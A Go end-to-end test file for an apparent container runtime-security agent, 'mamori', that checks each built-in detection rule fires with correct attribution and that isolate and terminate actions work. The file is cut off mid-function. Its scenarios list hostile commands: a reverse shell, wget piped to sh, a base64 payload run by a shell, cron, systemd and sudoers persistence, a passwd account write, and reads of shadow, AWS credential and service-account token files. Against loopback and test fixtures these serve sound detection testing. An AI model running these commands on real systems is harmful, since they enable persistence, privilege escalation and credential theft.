package agent

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-containerregistry/pkg/v1/mutate"

	"mamori/internal/api"
	"mamori/internal/api/client"
	"mamori/internal/model"
	"mamori/internal/runtime/event"
	"mamori/internal/runtime/rules"
	"mamori/internal/testctr"
)

var ctrd testctr.Shared

func TestMain(m *testing.M) { os.Exit(ctrd.Main(m)) }

// e2ePolicy is the policy the server assigns to the test's cluster: its
// runtime section is what the agent runs (every built-in rule with its
// action log; the miner rule isolates or terminates containers labelled so).
const e2ePolicy = `apiVersion: mamori.dev/v1
kind: Policy
name: e2e-runtime
runtime:
  - ruleset: default
  - ruleset: default
    match: {selector: {matchLabels: {mamori-e2e: isolate}}}
    rules: {crypto-miner-binary: isolate}
  - ruleset: default
    match: {selector: {matchLabels: {mamori-e2e: terminate}}}
    rules: {crypto-miner-binary: terminate}
`

// scenario is one real action that must fire rule, in container where
// ("a": the attack container, "b": one started after the containerd
// restart, "priv": a privileged one, "host": on the host itself).
type scenario struct {
	rule  string
	where string
	cmd   []string
	pre   []string // run first (a listener), its failure ignored
	msg   string   // when set, the event's message must contain it too
}

// withMsg also requires text in the event's message: tells apart two scenarios of one rule in
// one container.
func (s scenario) withMsg(m string) scenario { s.msg = m; return s }

func sc(rule, where string, cmd []string, pre ...[]string) scenario {
	s := scenario{rule: rule, where: where, cmd: cmd}
	if len(pre) > 0 {
		s.pre = pre[0]
	}
	return s
}

func sh(s string) []string { return []string{"/bin/sh", "-c", s} }

const actorPath = "/usr/local/bin/actor"

func actor(args ...string) []string { return append([]string{actorPath}, args...) }

// scenarios: one (at least) per built-in rule.
func scenarios(hostDir string) []scenario {
	return []scenario{
		sc("terminal-shell-in-container", "a", actor("pty", "/bin/sh", "-c", "exit 0")),
		sc("shell-spawned-by-web-server", "a", []string{"/usr/sbin/nginx", "/bin/sh", "-c", "true"}),
		// busybox's shell runs its applets without exec (NOFORK/NOEXEC):
		// the applets an exec rule looks at are exec'd directly.
		sc("reverse-shell-stdio-socket", "a", actor("revshell", "127.0.0.1", "4444"),
			sh(`(echo "sleep 3" | nc -l -p 4444 >/dev/null &) ; sleep 0.5`)),
		sc("netcat-remote-exec", "a", []string{"/bin/nc", "-e", "/bin/true", "127.0.0.1", "4446"},
			sh(`(echo "x" | nc -l -p 4446 >/dev/null &) ; sleep 0.5`)),
		sc("shell-outbound-connection", "a", sh(`(nc -l -p 4445 >/dev/null &) ; sleep 0.5; /usr/local/bin/bash connect 127.0.0.1 4445 hi; exit 0`)),
		sc("download-pipe-to-shell", "a", sh(`wget -q -O- http://127.0.0.1:8080/i.sh | sh`)),
		sc("exec-downloaded-file", "a", sh(`/usr/bin/curl -o /tmp/dl http://127.0.0.1:8080/payload && chmod +x /tmp/dl && /tmp/dl`)),
		sc("exec-written-file", "a", sh(`cp /usr/local/bin/actor /tmp/dropped && /tmp/dropped`)),
		sc("exec-from-tmp", "a", sh(`cp /usr/local/bin/actor /tmp/x && /tmp/x`)),
		// /dev/shm is mounted noexec in a container: a privileged one
		// remounts it first.
		sc("exec-from-tmp", "priv", sh(`mount -o remount,exec /dev/shm && cp /usr/local/bin/actor /dev/shm/x && /dev/shm/x`)),
		sc("container-drift", "a", sh(`cp /usr/local/bin/actor /opt/copied && /opt/copied`)),
		sc("memfd-exec", "a", actor("memfd-exec")),
		sc("package-manager-in-container", "a", []string{"/bin/dpkg", "-l"}),
		sc("admin-tool-in-container", "a", []string{"/usr/local/bin/kubectl", "get", "pods"}),
		sc("runtime-socket-connect", "a", sh(`(`+actorPath+` listen-unix /run/docker.sock 3s &) ; sleep 0.5; `+actorPath+` connect-unix /run/docker.sock`)),
		sc("base64-decoded-to-shell", "a", sh(`echo dHJ1ZQo= | base64 -d | sh`)),
		sc("ssh-authorized-keys-change", "a", sh(`mkdir -p /root/.ssh && echo "ssh-ed25519 AAAA e2e" >> /root/.ssh/authorized_keys`)),
		sc("cron-persistence", "a", sh(`mkdir -p /etc/cron.d && echo "* * * * * root /tmp/x" > /etc/cron.d/evil`)),
		sc("systemd-persistence", "a", sh(`mkdir -p /etc/systemd/system && echo "[Service]" > /etc/systemd/system/evil.service`)),
		sc("init-script-write", "a", sh(`mkdir -p /etc/init.d && echo "/tmp/x &" > /etc/init.d/evil`)),
		sc("shell-profile-write", "a", sh(`echo "wget -q -O- http://x | sh" >> /root/.bashrc`)),
		sc("ld-preload-write", "a", sh(`echo /tmp/evil.so > /etc/ld.so.preload && rm /etc/ld.so.preload`)),
		sc("account-file-write", "a", sh(`echo "evil:x:0:0::/:/bin/sh" >> /etc/passwd`)),
		sc("user-management-in-container", "a", []string{"/bin/passwd", "-d", "nobody"}),
		sc("kernel-module-load-in-container", "a", actor("module", "/tmp/rootkit.ko")),
		sc("kernel-module-load-on-host", "host", []string{"module", filepath.Join(hostDir, "rootkit.ko")}),
		sc("sudo-in-container", "a", []string{"/bin/su", "-c", "true", "nobody"}),
		sc("sudoers-write", "a", sh(`mkdir -p /etc/sudoers.d && echo "evil ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/evil`)),
		// ctr sets no_new_privs on its containers; kubelet's (CRI) do not
		// by default, so the set-user-ID program runs in a pod.
		sc("setuid-root-unexpected", "cri", actor("runas", "1000", "/usr/local/bin/suid-actor", "regain-root")).withMsg(` with "setresuid" in `),
		// setuid(0) makes every uid 0: the real uid before the call (1000) comes from the
		// sensor's process table
		sc("setuid-root-unexpected", "cri", actor("runas", "1000", "/usr/local/bin/suid-actor", "setuid0")).withMsg(`(uid 0, 1000 before) switched to root with "setuid" in `),
		sc("setuid-bit-set", "a", sh(`cp /bin/busybox /tmp/suid && chmod u+s /tmp/suid`)),
		sc("ptrace-attach", "a", actor("ptrace")),
		sc("host-fs-mount", "a", actor("mount", "/dev/sda1", "/mnt", "ext4")),
		sc("cgroup-v1-mount-in-container", "a", actor("mount", "cgroup", "/mnt", "cgroup", "memory")),
		sc("nsenter-in-container", "a", []string{"/bin/nsenter", "-t", "1", "-n", "true"}),
		sc("setns-in-container", "a", []string{"/bin/nsenter", "-t", "1", "-u", "true"}),
		sc("unshare-in-container", "a", []string{"/usr/local/bin/unshare"}),
		// Refused writes (read-only /sys and /proc/sys in the container):
		// the attempt is the event; nothing on the host changes.
		sc("release-agent-write", "a", sh(`echo /tmp/x > /sys/fs/cgroup/release_agent 2>/dev/null; exit 0`)),
		sc("core-pattern-write", "a", sh(`echo "|/tmp/x" > /proc/sys/kernel/core_pattern 2>/dev/null; exit 0`)),
		sc("proc-sys-write-in-container", "a", sh(`echo 1 > /proc/sys/kernel/domainname 2>/dev/null; exit 0`)),
		sc("bpf-program-load-in-container", "priv", actor("bpf-load")),
		sc("shadow-file-read", "a", []string{"/bin/cat", "/etc/shadow"}),
		sc("credential-file-read", "a", []string{"/bin/cat", "/root/.aws/credentials"}),
		sc("service-account-token-read", "a", []string{"/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
		// The container's network namespace has loopback only: the connect
		// is refused at once (ENETUNREACH); no packet leaves.
		sc("cloud-metadata-access", "a", actor("connect", "169.254.169.254", "80")),
		sc("log-file-deletion", "a", sh(`: > /var/log/app.log`)),
		sc("shell-history-deletion", "a", []string{"/bin/rm", "/root/.ash_history"}),
		sc("history-logging-disabled", "a", sh(`unset HISTFILE; true`)),
		sc("system-binary-name-outside-system-dirs", "a", []string{"/opt/app/sshd"}),
		sc("kernel-thread-impostor", "a", actor("comm", "kworker/0:1", "/etc/passwd")),
		sc("deleted-binary-running", "a", actor("deleted-exec")),
		sc("network-scanner", "a", []string{"/usr/bin/nmap", "127.0.0.1", "1", "30"}),
		sc("packet-socket-in-container", "a", actor("packet-socket")),
		sc("raw-socket-in-container", "a", actor("raw-socket")),
		sc("listener-without-declared-ports", "a", sh(`(nc -l -p 9999 >/dev/null &) ; sleep 0.5; `+actorPath+` connect 127.0.0.1 9999`)),
		sc("crypto-miner-binary", "a", []string{"/usr/local/bin/xmrig", "--donate-level", "1"}),
		sc("crypto-miner-pool-cmdline", "a", sh(`echo pool.supportxmr.com:443 >/dev/null`)),
		sc("crypto-miner-pool-port", "a", sh(`(nc -l -p 3333 >/dev/null &) ; sleep 0.5; `+actorPath+` connect 127.0.0.1 3333 hi`)),
		// After the containerd restart, in a container started then.
		sc("memfd-exec", "b", actor("memfd-exec")),
		sc("container-drift", "b", sh(`mkdir -p /opt && cp /usr/local/bin/actor /opt/copied && /opt/copied`)),
		sc("shadow-file-read", "b", []string{"/bin/cat", "/etc/shadow"}),
	}
}

// attackImage is busybox plus the actor under its names and the files the
// rules look at.
func attackImage(t *testing.T, actorBin []byte) testctr.ImageSpec {
	return testctr.ImageSpec{Files: map[string]testctr.File{
		"usr/local/bin/actor":      {Data: actorBin, Exec: true},
		"usr/local/bin/xmrig":      {Data: actorBin, Exec: true},
		"usr/local/bin/suid-actor": {Data: actorBin, Mode: 0o4755},
		"www/payload":              {Data: actorBin, Exec: true},
		"www/i.sh":                 {Data: []byte("true\n")},
		"etc/shadow":               {Data: []byte("root:$6$e2e$hash:19000:0:99999:7:::\n"), Mode: 0o640},
		"root/.aws/credentials":    {Data: []byte("[default]\naws_access_key_id = AKIAE2E\n")},
		"root/.ash_history":        {Data: []byte("ls\n")},
		"var/log/app.log":          {Data: []byte("started\n")},
		"var/run/secrets/kubernetes.io/serviceaccount/token": {Data: []byte("eyJhbGciOi.e2e.token")},
	}}
}

// attackInit starts the attack container: a web server on loopback for the
// downloads, the actor under more names (copied at start), then idles.
const attackInit = `httpd -p 127.0.0.1:8080 -h /www
for n in /usr/local/bin/kubectl /usr/bin/nmap /usr/sbin/nginx /usr/bin/curl /usr/local/bin/unshare /opt/app/sshd /usr/local/bin/bash; do
  mkdir -p $(dirname $n); cp /usr/local/bin/actor $n
done
exec sleep 1000000`

type e2e struct {
	t      *testing.T
	d      *testctr.Daemon
	a      *Agent
	srv    *testServer
	log    *eventLog
	node   string
	actor  string // host path of the actor binary
	img    testctr.Image
	cancel context.CancelFunc
	done   chan error
	// outage is when the server was down.
	outageFrom, outageTo time.Time
	clusterToken         string
}

func TestAgentE2E(t *testing.T) {
	d := ctrd.Get(t) // skips without MAMORI_TEST_RUNTIME=1
	begin := time.Now()
	ctx := context.Background()
	bin := t.TempDir()
	actorBin := goBuild(t, "./internal/agent/testdata/actor", filepath.Join(bin, "actor"))
	mamori := goBuild(t, "./cmd/mamori", filepath.Join(bin, "mamori"))
	t.Logf("built the actor and mamori in %v", time.Since(begin).Round(time.Millisecond))

	srv := startServer(t, mamori)
	// A cluster whose policy selects the agent's rulesets, and the agent's
	// token bound to it (Kubernetes pods' isolate/terminate are asked of the
	// server, which takes them from a cluster's agents).
	var cc api.ClusterCreated
	srv.post(t, api.PathClusters, api.ClusterRequest{Name: "e2e"}, &cc)
	admin := srv.adminClient(t)
	if _, err := admin.ApplyPolicy(ctx, "e2e.yaml", []byte(e2ePolicy)); err != nil {
		t.Fatal(err)
	}
	if _, err := admin.AssignClusterPolicy(ctx, cc.Cluster.ID, "e2e-runtime"); err != nil {
		t.Fatal(err)
	}
	tok := writeFile(t, "token", srv.token(t, "e2e-agent", "agent", "e2e"))
	actorData, err := os.ReadFile(actorBin)
	if err != nil {
		t.Fatal(err)
	}

	savedCore, err := os.ReadFile("/proc/sys/kernel/core_pattern")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		now, _ := os.ReadFile("/proc/sys/kernel/core_pattern")
		if string(now) != string(savedCore) {
			t.Errorf("core_pattern changed to %q: restoring %q", now, savedCore)
			os.WriteFile("/proc/sys/kernel/core_pattern", savedCore, 0o644)
		}
	})

	dir := t.TempDir()
	cfg := Defaults()
	cfg.Node = "e2e-" + testctr.RandomTag()
	cfg.Server.URL = srv.url()
	cfg.Server.TokenFile = tok
	cfg.Spool.Dir = filepath.Join(dir, "spool")
	cfg.Events.File = filepath.Join(dir, "events.jsonl")
	cfg.Modules.Runtime.Containerd = d.Address
	cfg.Modules.Runtime.Docker = "none"
	logs := &syncBuffer{}
	logger := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo}))
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("agent log:\n%s", tail(logs.Bytes(), 200))
		}
	})
	a, err := New(cfg, WithLogger(logger), WithVersion("e2e"))
	if err != nil {
		t.Fatal(err)
	}
	actx, cancel := context.WithCancel(ctx)
	x := &e2e{t: t, d: d, a: a, srv: srv, node: cfg.Node, actor: actorBin, cancel: cancel, done: make(chan error, 1),
		log: &eventLog{path: cfg.Events.File}, clusterToken: cc.Token}
	go func() { x.done <- a.Run(actx) }()
	t.Cleanup(func() { x.stopAgent(t) })
	waitFor(t, func() bool { return a.Runtime().Mode() != "" }, "the sensor to start")
	mode := a.Runtime().Mode()
	t.Logf("sensor mode %s", mode)
	// The rulesets come from the server's policy.
	waitFor(t, func() bool { return strings.Contains(a.Runtime().RuntimeStats().RulesOrigin, "e2e-runtime") },
		"the server's policy to be loaded")
	t.Logf("rules: %s, rulesets %v", a.Runtime().RuntimeStats().RulesOrigin, a.Runtime().RuntimeStats().Rulesets)
	// The server lists the agent with its sensor's mode (registration).
	waitFor(t, func() bool {
		l, err := srv.adminClient(t).ListAgents(ctx)
		for _, ag := range l.Agents {
			if err == nil && ag.Node == cfg.Node && ag.Sensor != nil && ag.Sensor.Mode == string(mode) && ag.Sensor.Hooks != "" {
				return true
			}
		}
		return false
	}, "the server to list the agent's sensor mode")

	x.img = d.BuildImage(t, "", attackImage(t, actorData))
	t.Logf("setup took %v", time.Since(begin).Round(time.Millisecond))

	t.Run("rules", func(t *testing.T) { x.rules(t, string(mode)) })
	t.Run("actions", x.actions)
	t.Run("benign", x.benign)
	t.Run("short-lived", x.shortLived)
	t.Run("hostile", x.hostile)
	t.Run("storms", x.storms)
	t.Run("delivery", x.delivery)
	t.Logf("e2e took %v", time.Since(begin).Round(time.Millisecond))
}

func (x *e2e) stopAgent(t *testing.T) {
	if x.cancel == nil {
		return
	}
	x.cancel()
	x.cancel = nil
	select {
	case err := <-x.done:
		if err != nil {
			t.Errorf("agent: %v", err)
		}
	case <-time.After(60 * time.Second):
		t.Error("agent did not stop within 60 s")
	}
}

// execFunc runs a command in one container.
type execFunc func(ctx context.Context, args ...string) (string, error)

// run executes a scenario's command where it belongs.
func (x *e2e) run(t *testing.T, s scenario, conts map[string]execFunc) {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	var out string
	var err error
	if s.where == "host" {
		var b []byte
		b, err = exec.CommandContext(ctx, x.actor, s.cmd...).CombinedOutput()
		out = string(b)
	} else {
		if s.pre != nil {
			conts[s.where](ctx, s.pre...)
		}
		out, err = conts[s.where](ctx, s.cmd...)
	}
	if err != nil {
		t.Logf("%s: %q: %v (%s)", s.rule, s.cmd, err, short(out))
	}
}

func (x *e2e) rules(t *testing.T, mode string) {
	d := x.d
	ctx := context.Background()
	hostDir := t.TempDir()
	ca := d.Run(t, testctr.RunSpec{Image: x.img, Args: sh(attackInit)})
	cp := d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"}, Privileged: true})
	criImg := d.BuildImage(t, testctr.CRINamespace, testctr.ImageSpec{Files: map[string]testctr.File{
		"usr/local/bin/actor":      {Data: mustRead(t, x.actor), Exec: true},
		"usr/local/bin/suid-actor": {Data: mustRead(t, x.actor), Mode: 0o4755}}})
	pod := d.CRI(t).RunPod(t, testctr.PodSpec{Namespace: "e2e", Labels: map[string]string{"app": "attack"}})
	cc := pod.Start(t, testctr.CRIContainerSpec{Name: "attack", Image: criImg, Args: []string{"sleep", "1000000"}})
	conts := map[string]execFunc{"a": ca.Exec, "priv": cp.Exec,
		"cri": func(ctx context.Context, args ...string) (string, error) {
			return d.Ctr(ctx, testctr.CRINamespace, append([]string{"task", "exec", "--exec-id", "e-" + testctr.RandomTag(), cc.ID}, args...)...)
		}}
	ids := map[string]string{"a": ca.ID, "priv": cp.ID, "cri": cc.ID}
	waitFor(t, func() bool {
		_, err := ca.Exec(ctx, "test", "-x", "/usr/local/bin/bash")
		return err == nil
	}, "the attack container's start script")
	all := scenarios(hostDir)
	covered := map[string]bool{}
	for _, s := range all {
		covered[s.rule] = true
	}
	cat, err := rules.LoadBuiltin()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range cat.Rules() {
		if !covered[r.ID] {
			t.Errorf("built-in rule %s has no e2e scenario", r.ID)
		}
	}
	half := len(all) / 2
	start := time.Now()
	for _, s := range all[:half] {
		if s.where != "b" {
			x.run(t, s, conts)
		}
	}
	// A server outage and a containerd restart in the middle: events keep
	// being spooled, attribution keeps working for the containers that
	// survive the restart and those started after it.
	x.srv.kill()
	x.outageFrom = time.Now()
	t.Log("server killed (outage)")
	if err := d.Restart(ctx); err != nil {
		t.Fatal(err)
	}
	t.Log("containerd restarted")
	cb := d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"}})
	conts["b"], ids["b"] = cb.Exec, cb.ID
	for _, s := range all[half:] {
		x.run(t, s, conts)
	}
	x.outageTo = time.Now()
	x.srv.start(t)
	t.Logf("server back; %d scenarios ran in %v", len(all), time.Since(start).Round(time.Millisecond))

	// Every scenario's rule fired with the right attribution.
	deadline := time.Now().Add(60 * time.Second)
	var missing []string
	for {
		missing = missing[:0]
		for _, s := range all {
			f := ruleIn(s.rule, ids[s.where])
			if s.where == "host" {
				f = func(e *model.Event) bool { return e.Rule.ID == s.rule && e.Container == nil }
			}
			if s.msg != "" {
				rule := f
				f = func(e *model.Event) bool { return rule(e) && strings.Contains(e.Message, s.msg) }
			}
			if len(x.log.find(f)) == 0 {
				missing = append(missing, s.rule+"@"+s.where)
				if s.msg != "" && time.Now().After(deadline) {
					for _, e := range x.log.find(func(e *model.Event) bool { return e.Rule.ID == s.rule }) {
						t.Logf("%s: wanted %q in a message; an event of the rule says %q", s.rule, s.msg, e.Message)
					}
				}
			}
		}
		if len(missing) == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(250 * time.Millisecond)
	}
	if len(missing) > 0 {
		t.Errorf("%d of %d scenarios raised no event (sensor mode %s): %s", len(missing), len(all), mode, strings.Join(missing, ", "))
	} else {
		t.Logf("all %d scenarios fired their rule with the right container", len(all))
	}
	// Every event of the attack container names the container as the
	// runtime has it, the image and its digest, and its rule's ATT&CK IDs.
	for _, e := range x.log.find(inContainer(ids["a"])) {
		if e.Container.Image != x.img.Ref || e.Container.ImageDigest != x.img.Digest || e.Container.Runtime != "containerd" ||
			e.Namespace != d.Namespace || e.Tactic == "" || e.Technique == "" || e.Process == nil || e.Action != model.ActionLog {
			t.Errorf("event %s (%s) attribution or fields: container %+v namespace %q tactic %q technique %q action %q",
				e.ID, e.Rule.ID, e.Container, e.Namespace, e.Tactic, e.Technique, e.Action)
			break
		}
	}
	// Drift: the copied binary drifted; the image's own binaries did not.
	for _, e := range x.log.find(func(e *model.Event) bool { return e.Rule.ID == "container-drift" && e.Container != nil }) {
		if e.Process.Exe != "/opt/copied" && !strings.HasPrefix(e.Process.Exe, "/tmp/") && !strings.HasPrefix(e.Process.Exe, "/dev/shm/") &&
			e.Process.Exe != "/usr/local/bin/bash" && !slices.Contains([]string{"/usr/local/bin/kubectl", "/usr/bin/nmap",
			"/usr/sbin/nginx", "/usr/bin/curl", "/usr/local/bin/unshare", "/opt/app/sshd"}, e.Process.Exe) {
			t.Errorf("drift on %q, which is in the image", e.Process.Exe)
		}
	}
	if len(x.log.find(func(e *model.Event) bool {
		return e.Rule.ID == "container-drift" && e.Process != nil && e.Process.Exe == "/opt/copied"
	})) == 0 {
		t.Error("no drift on the copied binary")
	}
	// The agent context did its part: the download's writer, the socket stdio.
	if e := x.log.find(ruleIn("exec-downloaded-file", ids["a"])); len(e) > 0 {
		if !strings.Contains(e[0].Message, "/usr/bin/curl") {
			t.Errorf("exec-downloaded-file message does not name the writer: %q", e[0].Message)
		}
	}
	if e := x.log.find(ruleIn("shell-spawned-by-web-server", ids["a"])); len(e) > 0 {
		if len(e[0].Process.Ancestors) == 0 || e[0].Process.Ancestors[0] != "/usr/sbin/nginx" {
			t.Errorf("shell under nginx: ancestors %q", e[0].Process.Ancestors)
		}
	}
}

// actions: isolate cuts a container's network, terminate kills it; on a
// Kubernetes (CRI) container the action is asked of the server.
func (x *e2e) actions(t *testing.T) {
	d := x.d
	ctx := context.Background()
	n1, n2 := testctr.NewNetNS(t), testctr.NewNetNS(t)
	testctr.Veth(t, n1, n2, "10.231.0.1/24", "10.231.0.2/24")
	ln := n2.Listen(t, "10.231.0.2:8080")
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("hello\n"))
			c.Close()
		}
	}()
	iso := d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"}, NetNS: n1.Path,
		Labels: map[string]string{"mamori-e2e": "isolate"}})
	reach := func() bool {
		out, _ := iso.Exec(ctx, actorPath, "connect", "10.231.0.2", "8080")
		return !strings.Contains(out, "connect:")
	}
	if !reach() {
		t.Fatal("the isolate container cannot reach its peer before isolation")
	}
	start := time.Now()
	iso.Exec(ctx, "/usr/local/bin/xmrig")
	e := x.log.wait(t, 30*time.Second, "the isolate event", ruleIn("crypto-miner-binary", iso.ID))
	if e.Action != model.ActionIsolate || e.ActionError != "" {
		t.Fatalf("isolate event: action %q error %q details %v", e.Action, e.ActionError, e.Details)
	}
	if reach() {
		t.Fatal("the container still reaches its peer after isolate")
	}
	t.Logf("isolate took effect (%v from the exec to the event); details %v", time.Since(start).Round(time.Millisecond), e.Details)

	term := d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"},
		Labels: map[string]string{"mamori-e2e": "terminate"}})
	start = time.Now()
	term.Exec(ctx, "/usr/local/bin/xmrig")
	e = x.log.wait(t, 30*time.Second, "the terminate event", ruleIn("crypto-miner-binary", term.ID))
	if e.Action != model.ActionTerminate || e.ActionError != "" {
		t.Fatalf("terminate event: action %q error %q details %v", e.Action, e.ActionError, e.Details)
	}
	if st, _ := term.TaskStatus(ctx); st == "running" {
		t.Fatalf("terminated container's task is %q", st)
	}
	t.Logf("terminate took effect (%v); details %v", time.Since(start).Round(time.Millisecond), e.Details)

	// A Kubernetes container (CRI): the action is the cluster component's,
	// asked through the server.
	img := d.BuildImage(t, testctr.CRINamespace, testctr.ImageSpec{Files: map[string]testctr.File{
		"usr/local/bin/xmrig": {Data: mustRead(t, x.actor), Exec: true}}})
	pod := d.CRI(t).RunPod(t, testctr.PodSpec{Namespace: "payments", Labels: map[string]string{"mamori-e2e": "isolate", "app": "shop"}})
	c := pod.Start(t, testctr.CRIContainerSpec{Name: "shop", Image: img, Args: []string{"sleep", "1000000"}})
	// The cluster component's inventory places the pod on this node (the
	// server checks it before it takes a request); the test plays the
	// cluster component's part of sending it.
	cl, err := client.New(x.srv.url(), x.clusterToken)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cl.RegisterCluster(ctx, api.ClusterReport{Version: "e2e", Nodes: 1}); err != nil {
		t.Fatal(err)
	}
	if _, err := cl.SendInventory(ctx, api.InventoryBatch{Generation: 1, Begin: true, End: true, Objects: []api.InventoryObject{
		{InventoryRef: api.InventoryRef{Kind: "Pod", Namespace: "payments", Name: pod.Spec.Name, UID: pod.Spec.UID},
			Node: x.node, Phase: "Running", Labels: pod.Spec.Labels,
			Containers: []api.InventoryContainer{{Name: "shop", Image: img.Ref, ImageDigest: img.Digest, ContainerID: "containerd://" + c.ID, Running: true}}},
	}}); err != nil {
		t.Fatal(err)
	}
	if out, err := d.Ctr(ctx, testctr.CRINamespace, "task", "exec", "--exec-id", "e-"+testctr.RandomTag(), c.ID,
		"/usr/local/bin/xmrig"); err != nil {
		t.Fatalf("exec in the CRI container: %v %s", err, out)
	}
	e = x.log.wait(t, 30*time.Second, "the CRI container's event", ruleIn("crypto-miner-binary", c.ID))
	if e.Pod != pod.Spec.Name || e.Namespace != "payments" || e.Container.Labels["app"] != "shop" {
		t.Errorf("CRI attribution: pod %q namespace %q labels %v", e.Pod, e.Namespace, e.Container.Labels)
	}
	if e.Action != model.ActionIsolate || e.ActionError != "" || e.Details["actionExecutor"] != "server" {
		t.Fatalf("CRI isolate: action %q error %q details %v", e.Action, e.ActionError, e.Details)
	}
	ms, err := x.srv.adminClient(t).ListMitigations(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, m := range ms {
		if m.EventID == e.ID && m.Pod == pod.Spec.Name && m.Action == model.ActionIsolate && m.Node == x.node {
			found = true
			t.Logf("the server queued mitigation %d (%s) for the cluster component: %s", m.ID, m.State, e.Details["actionDetail"])
		}
	}
	if !found {
		t.Errorf("no mitigation request on the server for event %s: %+v", e.ID, ms)
	}
}

// benign: a package-free service start, normal web traffic on loopback
// and a small Go build raise no event.
func (x *e2e) benign(t *testing.T) {
	d := x.d
	ctx := context.Background()
	img, err := testctr.BuildImage(testctr.ImageSpec{Files: map[string]testctr.File{
		"www/index.html": {Data: []byte("<h1>hello</h1>\n")},
		"entrypoint.sh":  {Data: []byte("#!/bin/sh\nmkdir -p /var/log/app\necho starting > /var/log/app/start.log\nexec httpd -f -p 8080 -h /www\n"), Exec: true},
		"src/go.mod":     {Data: []byte("module app\n\ngo 1.26\n")},
	}})
	if err != nil {
		t.Fatal(err)
	}
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cf.Config.ExposedPorts = map[string]struct{}{"8080/tcp": {}}
	img, err = mutate.ConfigFile(img, cf)
	if err != nil {
		t.Fatal(err)
	}
	bimg, err := d.Import(ctx, d.Namespace, img, testctr.DefaultRepo+":"+testctr.RandomTag())
	if err != nil {
		t.Fatal(err)
	}
	gr, err := exec.Command("go", "env", "GOROOT").Output()
	if err != nil {
		t.Fatal(err)
	}
	goroot := strings.TrimSpace(string(gr))
	gocache := benignGoCache(t)
	src := t.TempDir()
	os.WriteFile(filepath.Join(src, "go.mod"), []byte("module app\n\ngo 1.26\n"), 0o644)
	os.WriteFile(filepath.Join(src, "main.go"), []byte(fmt.Sprintf("package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(%q) }\n", testctr.RandomTag())), 0o644)
	c := d.Run(t, testctr.RunSpec{Image: bimg, Args: []string{"/entrypoint.sh"},
		Env: []string{"HOME=/tmp", "GOCACHE=/gocache", "GOPATH=/tmp/gopath", "GOFLAGS=-buildvcs=false -mod=mod", "GOPROXY=off",
			"GOTOOLCHAIN=local", "CGO_ENABLED=0", "PATH=/usr/local/go/bin:/bin:/usr/bin"},
		Mounts: []string{"type=bind,src=" + goroot + ",dst=/usr/local/go,options=rbind:ro",
			"type=bind,src=" + gocache + ",dst=/gocache,options=rbind:rw",
			"type=bind,src=" + src + ",dst=/build,options=rbind:rw"}})
	start := time.Now()
	for i := range 20 {
		if _, err := c.Exec(ctx, "wget", "-q", "-O", "/dev/null", "http://127.0.0.1:8080/index.html"); err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
	}
	bctx, cancel := context.WithTimeout(ctx, 4*time.Minute)
	defer cancel()
	out, err := c.Exec(bctx, "/bin/sh", "-c", "cd /build && go build -o /tmp/app . && /tmp/app")
	if err != nil {
		t.Fatalf("build in the container: %v %s", err, out)
	}
	t.Logf("benign workload (20 requests, a Go build and its run) in %v", time.Since(start).Round(time.Millisecond))
	// Let the agent drain, then: nothing from this container.
	x.drain(t)
	if evs := x.log.find(inContainer(c.ID)); len(evs) > 0 {
		for _, e := range evs {
			t.Errorf("benign workload raised %s: %s", e.Rule.ID, e.Message)
		}
	}
}

// benignGoCache is a Go build cache kept between runs (warm runs build
// only the test's main package).
func benignGoCache(t *testing.T) string {
	base, err := os.UserCacheDir()
	if err != nil {
		base = os.TempDir()
	}
	p := filepath.Join(base, "mamori-test", "agent-e2e-gocache")
	if err := os.MkdirAll(p, 0o755); err != nil {
		t.Fatal(err)
	}
	return p
}

// drain waits until the agent's rules worker and outputs are idle.
func (x *e2e) drain(t *testing.T) {
	time.Sleep(time.Second)
	waitFor(t, func() bool {
		s := x.a.Stats()
		rt := x.a.Runtime().RuntimeStats()
		return s.Queued == 0 && rt.Queued == 0
	}, "the agent to drain")
	time.Sleep(500 * time.Millisecond)
}

// shortLived: a container that runs for a moment is still named in its
// events, read after it was deleted.
func (x *e2e) shortLived(t *testing.T) {
	id := "short-" + testctr.RandomTag()
	out, err := x.d.RunOnce(context.Background(), testctr.RunSpec{ID: id, Image: x.img,
		Args: sh(`cp /usr/local/bin/actor /tmp/q && /tmp/q`)})
	if err != nil {
		t.Fatalf("%v %s", err, out)
	}
	e := x.log.wait(t, 30*time.Second, "an event of the short-lived container", ruleIn("exec-written-file", id))
	if e.Container.Image != x.img.Ref {
		t.Errorf("short-lived container event: %+v", e.Container)
	}
	// The same within a millisecond: the program exits at once.
	id2 := "blink-" + testctr.RandomTag()
	if out, err := x.d.RunOnce(context.Background(), testctr.RunSpec{ID: id2, Image: x.img, Args: []string{"/usr/local/bin/xmrig"}}); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	x.log.wait(t, 30*time.Second, "an event of the blink container", ruleIn("crypto-miner-binary", id2))
}

// hostile: paths and arguments with newlines, escapes, direction
// overrides, invalid UTF-8 and 64 KiB of argv come out safe everywhere.
func (x *e2e) hostile(t *testing.T) {
	c := x.d.Run(t, testctr.RunSpec{Image: x.img, Args: []string{"sleep", "1000000"}})
	if out, err := c.Exec(context.Background(), actorPath, "hostile", "/tmp"); err != nil {
